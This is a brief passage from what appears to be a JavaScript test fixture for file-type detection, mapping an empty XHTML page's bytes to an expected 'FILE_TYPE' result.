  'a web page': { bytes: text('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'), expected: 'FILE_TYPE' },
};
